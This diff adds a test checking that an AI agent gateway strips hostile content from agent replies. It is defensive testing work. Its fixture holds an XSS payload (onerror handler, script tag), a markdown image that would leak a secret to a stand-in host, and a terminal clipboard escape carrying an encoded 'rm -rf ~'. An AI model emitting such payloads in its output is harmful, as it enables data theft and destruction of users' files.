@@ -374,3 +374,34 @@ async def test_rate_limit_through_the_gateway(
         assert f"maestro_ratelimit_decisions_total{{{labels}}} 1.0" in text
     finally:
         await gw.close()
+
+
+async def test_agent_output_is_sanitised(env: Env) -> None:
+    """Hostile HTML and a markdown exfiltration image in an agent's reply are neutralised."""
+    env.recorder.reply = {
+        "message": {
+            "messageId": "r",
+            "role": "ROLE_AGENT",
+            "parts": [
+                {
+                    "text": '<p>hi</p><img src=x onerror="alert(1)"><script>steal()</script>',
+                    "mediaType": "text/html",
+                },
+                {
+                    "text": "done ![x](https://evil.example/leak?d=SECRET)",
+                    "mediaType": "text/markdown",
+                },
+                {"text": "plain \x1b]52;c;cm0gLXJmIH4=\x07text"},
+            ],
+        }
+    }
+    try:
+        _, data, _ = await post(f"{env.url}/agents/recorder", rpc("SendMessage", send_params()))
+    finally:
+        env.recorder.reply = None
+    html, markdown, plain = (p["text"] for p in data["result"]["message"]["parts"])
+    assert "<p>hi</p>" in html
+    assert "onerror" not in html
+    assert "script" not in html
+    assert "evil.example" not in markdown
+    assert plain == "plain text"
